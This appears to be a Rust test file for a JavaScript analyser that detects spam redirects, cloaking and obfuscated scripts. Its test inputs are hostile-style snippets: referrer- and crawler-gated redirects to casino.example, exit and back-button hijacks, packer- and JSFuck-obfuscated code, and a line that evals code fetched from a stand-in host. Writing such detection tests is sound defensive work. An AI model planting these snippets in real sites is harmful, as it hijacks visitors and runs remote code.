//! What is read in scripts, each in a line or two.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod obfuscator;

use suyuan_script::{Reading, UNKNOWN, read};

/// What is done and written, one line each: what, where to, by which tests.
fn lines(reading: &Reading) -> Vec<String> {
    let conditions = |conditions: &[suyuan_script::Condition]| -> String {
        let told: Vec<String> = conditions
            .iter()
            .map(|condition| format!("{}{:?}", if condition.holds { "" } else { "not " }, condition.tests))
            .collect();
        if told.is_empty() { String::new() } else { format!(" if {}", told.join(" and ")) }
    };
    let known = |text: &str| text.replace(UNKNOWN, "?");
    let written = reading
        .written
        .iter()
        .map(|one| format!("{:?} {}{}", one.writing, known(&one.markup), conditions(&one.conditions)));
    let sinks = reading.sinks.iter().map(|one| {
        let target = one.target.as_deref().map_or("-".to_owned(), known);
        format!("{:?} {target}{}", one.kind, conditions(&one.conditions))
    });
    written.chain(sinks).collect()
}

fn check(source: &str, expected: &[&str]) {
    let reading = read(source);
    assert_eq!(lines(&reading), expected, "{source}\n{reading:#?}");
}

fn made(source: &str) -> Vec<String> {
    read(source).strings.into_iter().map(|made| made.text).collect()
}

#[test]
fn what_libraries_make_and_ask_is_done_as_well() {
    for source in [
        "React.createElement('a', {href: 'http://casino.example/'}, 'x')",
        "preact.h('a', {href: 'http://casino.example/'})",
        "$('<a>', {href: 'http://casino.example/', text: 1}).appendTo('body')",
        "jQuery('<a/>', {href: 'http://casino.example/'}).hide()",
    ] {
        assert!(
            lines(&read(source)).contains(&"Link http://casino.example/".to_owned()),
            "{source}: {:#?}",
            read(source)
        );
    }
    for source in [
        "axios.get('http://casino.example/')",
        "axios({url: 'http://casino.example/'})",
        "axios.post('http://casino.example/').then(function (a) { eval(a.data) })",
    ] {
        check(source, &["Fetch http://casino.example/"]);
    }
    check("React.createElement('p', {dangerouslySetInnerHTML: {__html: '<b>x</b>'}})", &["Insert <b>x</b>"]);
    check(
        "Function('return this')()['location']['href'] = 'http://casino.example/'",
        &["Navigate http://casino.example/"],
    );
    check("(function () { this.location = 'http://casino.example/' })()", &["Navigate http://casino.example/"]);
}

#[test]
fn whoever_is_about_to_leave_is_kept() {
    for source in [
        "document.onmouseout = function (e) { if (e.clientY < 0) location.href = 'http://casino.example/' }",
        "document.addEventListener('mouseout', e => { if (e.clientY < 0) location.href = 'http://casino.example/' })",
        "$(document).mouseleave(function (e) { if (e.clientY < 0) location = 'http://casino.example/' })",
        "document.documentElement.onmouseleave = () => open('http://casino.example/')",
    ] {
        let seen = lines(&read(source));
        assert!(seen.iter().any(|one| one.starts_with("History http://casino.example/")), "{source}: {seen:?}");
    }
}

#[test]
fn what_the_device_has_is_asked_of_the_visitor() {
    for (asked, test) in [
        ("navigator.connection.type == 'cellular'", "Screen"),
        ("navigator.maxTouchPoints > 0", "Screen"),
        ("history.length < 2", "Cookie"),
        ("document.createElement('canvas').getContext('webgl').getParameter(37446)", "Driver"),
        ("/baidu/.test(opener.document.referrer)", "Referrer"),
    ] {
        check(&format!("if ({asked}) location = '/x'"), &[&format!("Navigate /x if [{test}]")]);
    }
    check(
        "navigator.getBattery().then(function (b) { if (b.level < 1) location = '/x' })",
        &["Navigate /x if [Screen] and []"],
    );
    check(
        "navigator.permissions.query({}).then(p => { if (p.state) location = '/x' })",
        &["Navigate /x if [Driver] and []"],
    );
}

#[test]
fn strings_are_put_together() {
    for source in [
        "f('casino' + '.example')",
        "var a = 'casino', b = a; b += '.'; f(b + 'example')",
        "const {x: [a]} = {x: ['casino.']}; f(`${a}example`)",
        "f(['casino', 'example'].join('.'))",
        "f('casino'.concat('.', 'example'))",
        "f('elpmaxe.onisac'.split('').reverse().join(''))",
        "f('casi-no.exa-mple'.replace(/-/g, ''))",
        "f('xcasino.examplex'.slice(1, -1))",
        "f('CASINO.EXAMPLE'.toLowerCase())",
        "f(String.fromCharCode(...[99, 97, 115, 105, 110, 111], 46) + 'example')",
        "f('casino\\u002eexample')",
        "f(decodeURIComponent('casino%2Eexample'))",
        "f(atob('Y2FzaW5vLmV4YW1wbGU='))",
        "(function (w, a) { w.f(a + '.example') })(window, 'casino')",
        "var o = {a: {b: 'casino.'}}; o.a['b'] += 'example'; f(o.a.b)",
        "function t(i) { return ['example', 'casino'][i - 3] } f(t(4) + '.' + t(3))",
        "class A { constructor(a) { this.a = a } b() { return this.a + '.example' } } f(new A('casino').b())",
        "function A(a) { this.a = a } A.prototype.b = function () { return this.a + '.example' }; f(new A('casino').b())",
        "String.prototype.b = function () { return 1 }; f('casino' + '.example')",
        "switch ('x') { case 'y': f(1); case 'x': f('casino' + '.example') }",
        "try { throw 'casino' } catch (e) { f(e + '.example') }",
        "var s = ''; for (var i of [99, 97, 115]) s += String.fromCharCode(i); f(s + 'ino.example')",
        "let s = 'casino'; do { s += '.example' } while (s.length < 10); f(s)",
        "var d = 'casino.example', k = ''; for (var c in d) k = k + d[c]; f(k)",
        "var [a, ...b] = ['.', 'casino', 'example']; f(b.join(a))",
        "f((1, 'casino') + (true ? '.example' : ''))",
        "var g = f.bind(null); g('casino' + '.example')",
        "f(function () { return /*casino*/ 1 }.toString().match(/[a-z]+no/)[0] + '.example')",
        "var a = async () => 'casino' + '.example'; f(await a())",
        "f(JSON.parse('{\"a\":\"casino\"}').a + '.example')",
        "f(Object.keys({casino: 1, example: 2}).join('.'))",
        "function t(pieces, a) { return pieces.raw.join(a) } f(t`casino${'.'}example`)",
        "sessionStorage.setItem('a', 'casino.'); f(sessionStorage.getItem('a') + 'example')",
        "localStorage.a = 'casino.'; f(localStorage.getItem('a') + 'example')",
        "f([..'casino'].join('') ) ; f('casino' + '.example') // broken",
    ] {
        assert!(made(source).contains(&"casino.example".to_owned()), "{source}: {:#?}", read(source));
    }
}

#[test]
fn what_is_undone_is_told_in_its_order() {
    let undone = |source: &str| -> Vec<&'static str> {
        read(source).strings.last().unwrap().undone.iter().map(|decoding| decoding.name()).collect()
    };
    assert_eq!(undone("f('cas' + 'ino.example')"), ["js-concat"]);
    assert_eq!(undone("f(atob('Y2Fza' + 'W5vLmV4YW1wbGU='))"), ["js-concat", "base64"]);
    assert_eq!(undone("f(unescape('%63asino'))"), ["percent"]);
    assert_eq!(undone("f(String.fromCharCode(99,97,115,105))"), ["char-codes"]);
    assert_eq!(undone("f('onisac'.split('').reverse().join(''))"), ["reverse", "js-concat"]);
    assert_eq!(undone(&obfuscator::packed("f('casino' + '.example')")), ["js-escape", "packer", "js-concat"]);
}

#[test]
fn ranges_are_those_of_the_expressions() {
    let source = "/* 中 */ f('cas' + 'ino')";
    assert_eq!(&source[read(source).strings[0].range.clone()], "'cas' + 'ino'");
    let source = "x; eval('location=\"http://cas\" + \"ino.example/\"')";
    assert_eq!(&source[read(source).sinks[0].range.clone()], "eval('location=\"http://cas\" + \"ino.example/\"')");
    let source = "a b; location='http://casino.example/'";
    assert_eq!(&source[read(source).sinks[0].range.clone()], "location='http://casino.example/'");
}

#[test]
fn what_is_not_known_leaves_a_hole() {
    check("location = 'http://casino.example/?r=' + document.referrer", &["Navigate http://casino.example/?r=?"]);
    check("document.write('<a href=\"' + u + '\">', 'x')", &["Write <a href=\"?\">x"]);
    check("location = u", &["Navigate -"]);
    check(
        "var a = q ? 'http://a.example/' : 'http://b.example/'; location = a",
        &["Navigate http://a.example/", "Navigate http://b.example/"],
    );
    let holed = read("f('http://' + q + '.casino.example/')").strings;
    assert_eq!(holed[0].text, format!("http://{UNKNOWN}.casino.example/"));
}

#[test]
fn sinks_are_found_by_all_their_names() {
    for (source, expected) in [
        ("top.location.href = 'http://c.example/'", "Navigate http://c.example/"),
        ("window['loc' + 'ation']['hr' + 'ef'] = 'http://c.example/'", "Navigate http://c.example/"),
        ("var l = document.location; l.replace('http://c.example/')", "Navigate http://c.example/"),
        ("with (document) with (location) assign('http://c.example/')", "Navigate http://c.example/"),
        ("(0, eval)('location=\"http://c.example/\"')", "Navigate http://c.example/"),
        ("setTimeout('location=\"http://c.example/\"', 9)", "Navigate http://c.example/"),
        ("new Function('a', 'location=a')('http://c.example/')", "Navigate http://c.example/"),
        ("[]['filter']['constructor']('location=\"http://c.example/\"')()", "Navigate http://c.example/"),
        ("open.call(window, 'http://c.example/')", "Open http://c.example/"),
        ("location.href = 'javascript:open(\"http://c.example/\")'", "Open http://c.example/"),
        ("import('http://c.example/a.js')", "Script http://c.example/a.js"),
        ("import a from 'http://c.example/a.js'", "Script http://c.example/a.js"),
        ("$.getScript('http://c.example/a.js')", "Script http://c.example/a.js"),
        ("var x = new XMLHttpRequest; x.open('GET', 'http://c.example/')", "Fetch http://c.example/"),
        ("$.ajax({url: 'http://c.example/'})", "Fetch http://c.example/"),
        ("navigator.sendBeacon('http://c.example/')", "Fetch http://c.example/"),
        ("var i = new Image(1, 1); i.src = '//c.example/a.gif'", "Image //c.example/a.gif"),
        ("a.attr({href: 'http://c.example/'})", "Link http://c.example/"),
        ("document.title = '彩票' + 'c.example'", "Title 彩票c.example"),
        ("history.pushState(0, 0, 'http://c.example/')", "History http://c.example/"),
        ("onpopstate = function () { location = 'http://c.example/' }", "History http://c.example/"),
        ("window.opener.location = 'http://c.example/'", "History http://c.example/"),
        ("addEventListener('beforeunload', () => { open('http://c.example/') })", "History http://c.example/"),
        ("document.write.apply(document, ['<b>c.example'])", "Write <b>c.example"),
        ("$('#a').html('<b>c.example')", "Insert <b>c.example"),
        ("e.outerHTML = '<b>c.example'", "Insert <b>c.example"),
        ("e.textContent = 'c.example'", "Words c.example"),
    ] {
        let told = lines(&read(source));
        assert!(told.iter().any(|line| line.trim_end_matches(" if []") == expected), "{source}: {told:?}");
    }
}

#[test]
fn conditions_follow_the_script() {
    check(
        "if (/baidu/i.test(document.referrer)) location = 'http://c.example/'",
        &["Navigate http://c.example/ if [Referrer]"],
    );
    check(
        "if (navigator.userAgent.indexOf('Spider') < 0) { document.title = 'a' } else { document.title = 'b' }",
        &["Title a if [Agent]", "Title b if not [Agent]"],
    );
    check(
        "function f() { var c = document.cookie; if (c.match('x=')) return; open('http://c.example/') } f()",
        &["Open http://c.example/ if not [Cookie]"],
    );
    check("new Date().getHours() > 20 && (location = 'http://c.example/')", &["Navigate http://c.example/ if [Time]"]);
    check("Math.random() < .5 ? open('http://c.example/') : 0", &["Open http://c.example/ if [Random]"]);
    check(
        "switch (navigator.language) { case 'zh-CN': location = 'http://c.example/' }",
        &["Navigate http://c.example/ if [Language]"],
    );
    check(
        "var m = false; if (screen.width < 800) m = true; if (m) location = 'http://c.example/'",
        &["Navigate http://c.example/ if [Screen]"],
    );
    check(
        "if (!navigator.webdriver) { if (localStorage.getItem('x') === null) location = 'http://c.example/' }",
        &["Navigate http://c.example/ if [Driver] and [Cookie]"],
    );
    check("if ('a' === 'b') { location = 'http://c.example/' }", &["Navigate http://c.example/"]);
}

#[test]
fn functions_that_nobody_calls_are_followed() {
    check("function go() { location = 'http://c.example/' }", &["Navigate http://c.example/ if []"]);
    check("b.onclick = function () { location = 'http://c.example/' }", &["Navigate http://c.example/ if []"]);
    check("onload = function () { location = 'http://c.example/' }", &["Navigate http://c.example/"]);
    check(
        "$(function () { $.each(a, function (i, v) { open('http://c.example/' + v) }) })",
        &["Open http://c.example/?"],
    );
    check(
        "var u; function set() { u = 'http://c.example/' } function go() { location = u }",
        &["Navigate http://c.example/ if []"],
    );
}

#[test]
fn packers_are_unpacked_as_deep_as_they_are_named() {
    let mut source = "document.write('<a href=\"http://casino.example/\">')".to_owned();
    for _ in 0..5 {
        source = obfuscator::packed(&source);
        check(&source, &["Write <a href=\"http://casino.example/\">"]);
    }
    let other = "eval(function(p,a,c,k){for(var i=c;i--;)if(k[i])p=p.split('~'+i.toString(a)+'~').join(k[i]);return p}\
        ('~0~=\"~1~\"',36,2,'location|http://casino.example/'.split('|')))";
    check(other, &["Navigate http://casino.example/"]);
}

#[test]
fn scripts_without_letters_are_read() {
    // `[]["flat"]`, spelled with the letters of `false` and `true`, and a letter of what it prints.
    let flat = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]";
    let constructor = format!(
        "(({flat}+[])[3]+({flat}+[])[6]+([][[]]+[])[1]+(![]+[])[3]+(!![]+[])[0]+(!![]+[])[1]+(!![]+[])[2]+({flat}+[])[3]+(!![]+[])[0]+({flat}+[])[6]+(!![]+[])[1])"
    );
    check(&format!("{flat}[{constructor}]('location=\"http://c.example/\"')()"), &["Navigate http://c.example/"]);
    let dollars = "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$],_$_:++$};\
        f($.$$$$+$.$_$_+$.___+$._$_+'casino')";
    assert_eq!(made(dollars), ["fa02casino"]);
}

#[test]
fn ordinary_scripts_do_nothing_of_note() {
    check("var s = document.referrer.indexOf('baidu') > -1 ? 'seo' : 'direct'; document.cookie = 'from=' + s", &[]);
    check("for (var i = 0; i < links.length; i++) { links[i].className += ' external' }", &[]);
    let reading = read("(function () { var a = 1, b = [a, 2]; return b.map(function (c) { return c * 2 }) })()");
    assert_eq!(reading, Reading { steps: reading.steps, ..Reading::default() });
}

#[test]
fn what_may_be_found_in_a_list_is_any_of_it() {
    for source in [
        "location = ['/a', '/b'].find(x => x !== document.title)",
        "location = ['/b', '/a'].findLast(x => x !== document.title)",
        "location = ['/a', '/b'].filter(x => x !== document.title)[0]",
        "location = ['/a', '/b'].filter(x => x !== document.title).pop()",
        "const [one] = ['/a', '/b'].filter(x => x !== document.title); location = one",
        "const f = async () => ['/a', '/b'].find(x => x !== document.title); f().then(u => { location = u })",
    ] {
        let told = lines(&read(source));
        for to in ["Navigate /a", "Navigate /b"] {
            assert!(told.iter().any(|line| line.starts_with(to)), "{source}: {told:?}");
        }
    }
    check("location = ['/a', '/b'].find(x => x === '/b')", &["Navigate /b"]);
    check("location = ['/a', '/b'].filter(x => x === '/b')[0]", &["Navigate /b"]);
    check("if (['/a'].find(x => document.referrer)) location = '/x'", &["Navigate /x if [Referrer]"]);
}

#[test]
fn what_a_script_puts_in_the_place_of_a_method_is_followed() {
    check("Array.prototype.includes = function () { location = this[0] }; ['/a'].includes('x')", &["Navigate /a"]);
    check("String.prototype.indexOf = function (x) { location = x }; 'x'.indexOf('/a')", &["Navigate /a"]);
    check(
        "const old = Array.prototype.find; Array.prototype.find = function (f) { return old.call(this, f) }; location = ['/a'].find(x => x)",
        &["Navigate /a"],
    );
    assert!(read("location = window[name][0]").evaluates_unknown, "which of all that is global, a run tells");
}

#[test]
fn what_another_build_would_do_is_told_apart() {
    check("if (process.env.NODE_ENV === 'development') location = '/x'", &["Navigate /x if [Build]"]);
    check("if (process.env.NODE_ENV === 'production') location = '/x'", &["Navigate /x if []"]);
    check("if (process.env.NODE_ENV === 'production') f(); else location = '/x'", &["Navigate /x if not [Build]"]);
    check(
        "process = {env: {NODE_ENV: 'test'}}; if (process.env.NODE_ENV === 'test') location = '/x'",
        &["Navigate /x"],
    );
}

#[test]
fn whom_a_promise_or_a_list_lets_through_is_told_with_what_follows() {
    let referrer = &["Navigate /a if [Referrer]"];
    for source in [
        "new Promise((y, n) => /baidu/.test(document.referrer) ? y() : n()).then(() => { location = '/a' })",
        "new Promise(function (y) { if (document.referrer.indexOf('so.com') > 0) y() }).then(() => location = '/a')",
        "document.referrer.replace(/baidu/, () => { location = '/a' })",
        "document.referrer.split('/').forEach(part => { location = '/a' })",
        "({true: () => { location = '/a' }, false: () => {}})[/baidu/.test(document.referrer)]()",
        "[1].filter(() => /baidu/.test(document.referrer)).forEach(() => { location = '/a' })",
        "location = ['/a'].filter(() => /baidu/.test(document.referrer))[0]",
        "if (/baidu/.test(Reflect.get(document, 'referrer'))) location = '/a'",
    ] {
        check(source, referrer);
    }
    check(
        "location = ['/', '/a'][+/baidu/.test(document.referrer)]",
        &["Navigate / if [Referrer]", "Navigate /a if [Referrer]"],
    );
    check("new Promise(y => setTimeout(y, 10)).then(() => { location = '/a' })", &["Navigate /a"]);
}

#[test]
fn an_element_of_the_page_is_made_a_refresh() {
    for source in [
        "var m = document.querySelector('meta[name=go]'); m.httpEquiv = 'refresh'; m.content = '0;url=/a'",
        "document.querySelector('#m').setAttribute('content', '0; URL=/a')",
        "for (const m of document.getElementsByTagName('meta')) m.content = '0;url=/a'",
    ] {
        let told = lines(&read(source));
        assert!(told.iter().any(|line| line.starts_with("Navigate /a")), "{source}: {told:?}");
    }
}

#[test]
fn groups_of_each_match_and_functions_by_their_prototypes_are_known() {
    let h = "[...'c1a2s3'.matchAll(/([a-z])\\d/g)].map(m => m[1]).join('')";
    check(&format!("location = '//' + {h} + '.example/'"), &["Navigate //cas.example/"]);
    check("Function.prototype.constructor('location = \"/a\"')()", &["Navigate /a"]);
}
